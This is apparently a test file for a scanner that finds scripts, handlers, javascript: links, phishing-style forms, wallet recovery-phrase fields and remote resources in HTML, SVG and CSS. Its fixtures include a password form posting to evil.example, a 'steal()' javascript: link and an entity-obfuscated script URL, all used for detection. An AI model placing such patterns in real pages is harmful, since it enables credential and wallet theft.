import { describe, expect, it } from 'vitest';
import { LineTable } from '../lineTable.ts';
import { remoteUrlsOfStyle } from './css.ts';
import { isQuietPicture, readHtml } from './html.ts';

function html(text: string) {
  const lines = new LineTable(text);
  return readHtml({ text, position: (offset) => lines.position(offset), lineAt: (offset) => lines.lineAt(offset) });
}

describe('readHtml', () => {
  it('lists scripts that run and leaves data blocks out', () => {
    const { scripts } = html(
      '<script src="a.js"></script>\n<script type="application/json">{"a":1}</script><script type=module>import "./b.js"</script><script type="text/template"><b></script>',
    );
    expect(scripts.map((script) => script.src ?? script.evidence)).toEqual(['a.js', 'import "./b.js"']);
    expect(scripts[1]?.at.line).toBe(2);
  });
  it('names the fields that a wallet’s words are asked in', () => {
    const fields = (text: string) => html(text).walletFields;
    expect(fields('<h2>Import</h2><textarea id="m" placeholder="Your 12 or 24 words"></textarea>')).toEqual(['m']);
    expect(
      fields(
        '<p>Recovery phrase</p><input class="w" id="w1"><span>2</span><input class="w" id="w2"><p>Password</p><input id="p">',
      ),
    ).toEqual(['w1', 'w', 'w2', 'w']);
    expect(fields('<p>Private key</p><input name="key">')).toEqual(['key']);
    expect(fields('<label>Seed</label><input id="seed" type="number">')).toEqual([]);
    expect(fields('<p>Write 12 wordy lines</p><textarea id="t"></textarea>')).toEqual([]);
  });
  it('hashes inline scripts as a policy would', () => {
    // echo -n "alert('Hello, world.');" | openssl sha256 -binary | openssl base64, the example of the CSP specification.
    expect(html("<script>alert('Hello, world.');</script>").scripts[0]?.hash).toBe(
      'sha256-qznLcsROx4GACP2dm0UCKCzCG+HiZ1guq6ZZDob/Tng=',
    );
  });
  it('finds handlers, javascript: links, forms, meta policies and remote things', () => {
    const facts =
      html(`<meta http-equiv="Content-Security-Policy" content="script-src 'self'"><base href="https://b.example/">
<body onload="go()"><a href="javascript:void(0)">x</a><a href=" JavaScript:steal()">y</a>
<form action="https://evil.example/login"><input type=password></form>
<img src=//track.example/p.gif><link rel=stylesheet href="https://fonts.googleapis.com/css"><iframe src="https://f.example/"></iframe>
<style>@import url("https://s.example/a.css");</style><a href="https://docs.example/">docs</a>`);
    expect(facts.csp[0]?.policy).toBe("script-src 'self'");
    expect(facts.base).toBe('https://b.example/');
    expect(facts.handlers.map((handler) => handler.name)).toEqual(['onload']);
    expect(facts.scriptLinks).toHaveLength(1);
    expect(facts.forms).toMatchObject([{ action: 'https://evil.example/login', password: true }]);
    expect(facts.remote.map((item) => `${item.use} ${item.url}`)).toEqual([
      'form https://evil.example/login',
      'image //track.example/p.gif',
      'style https://fonts.googleapis.com/css',
      'frame https://f.example/',
      'style https://s.example/a.css',
    ]);
  });
  it('survives broken pages', () => {
    for (const text of ['', '<', '<script', '<script>never closed', '<a '.repeat(5000), '<div>'.repeat(20_000)])
      expect(() => html(text)).not.toThrow();
  });
});

describe('remoteUrlsOfStyle', () => {
  it.each([
    ['@import "https://a.example/x.css";', 'style'],
    ['@font-face { src: url(//f.example/x.woff2) }', 'font'],
    ['.a { background: url( "http://i.example/x.png" ) }', 'image'],
    ['@import url(https://fonts.googleapis.com/css?family=Roboto);', 'font'],
  ])('%s', (text, use) => {
    expect(remoteUrlsOfStyle(text).map((item) => item.use)).toEqual([use]);
  });
  it.each([
    '/* @import "https://a.example/x.css"; */',
    '@namespace url(http://www.w3.org/1999/xhtml);',
    '.a { background: url(img/x.png) }',
    '.a { background: url("data:image/svg+xml;utf8,<svg xmlns=\'http://www.w3.org/2000/svg\'>") }',
    '// see https://a.example/',
  ])('not %s', (text) => {
    expect(remoteUrlsOfStyle(text)).toEqual([]);
  });
});

describe('isQuietPicture', () => {
  const svg = (inner: string): string =>
    `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><!-- made by hand -->${inner}<path d="M0 0h24v24z" style="fill:url(#a)"/></svg>`;
  const tells = (text: string): boolean =>
    Object.values(html(text)).some((found) => found !== undefined && found.length > 0);

  it('is quiet about what tells nothing', () => {
    expect(isQuietPicture('icons/A.SVG', svg('<title>on and on = nothing</title><use xlink:href="#a"/>'))).toBe(true);
    expect(tells(svg('<title>on and on = nothing</title><use xlink:href="#a"/>'))).toBe(false);
    expect(isQuietPicture('a.html', svg(''))).toBe(false);
  });
  it.each([
    '<script>go()</script>',
    '<script href="a.js"/>',
    '<g onload="go()"/>',
    '<g/onclick = go()>',
    '<a xlink:href="javascript:go()"/>',
    '<a xlink:href="java&#115;cript:go()"/>',
    '<style>@import "https://a.example/x.css";</style>',
    '<rect style="fill:url( //a.example/x )"/>',
    '<foreignObject><IFRAME src="//a.example/"></IFRAME></foreignObject>',
    '<foreignObject><form action="//a.example/"/></foreignObject>',
    '<foreignObject><img src="//a.example/p.gif"/></foreignObject>',
    '<link rel="stylesheet" href="https://a.example/x.css"/>',
    '<meta http-equiv="content-security-policy" content="x"/>',
    '<base href="https://a.example/"/>',
  ])('is read when it holds %s', (inner) => {
    expect(tells(svg(inner))).toBe(true);
    expect(isQuietPicture('a.svg', svg(inner))).toBe(false);
  });
});

it('reads elements inside one another by the million, and what stands behind them', () => {
  const text = `${'<div>'.repeat(1_000_000)}<script src="https://x.example/a.js"></script>${'</div>'.repeat(1000)}`;
  const lines = new LineTable(text);
  const { scripts } = readHtml({
    text,
    position: (offset) => lines.position(offset),
    lineAt: (offset) => lines.lineAt(offset),
  });
  // Quadratic, this takes minutes and the runner's patience ends.
  expect(scripts.map(({ src }) => src)).toEqual(['https://x.example/a.js']);
}, 30_000);
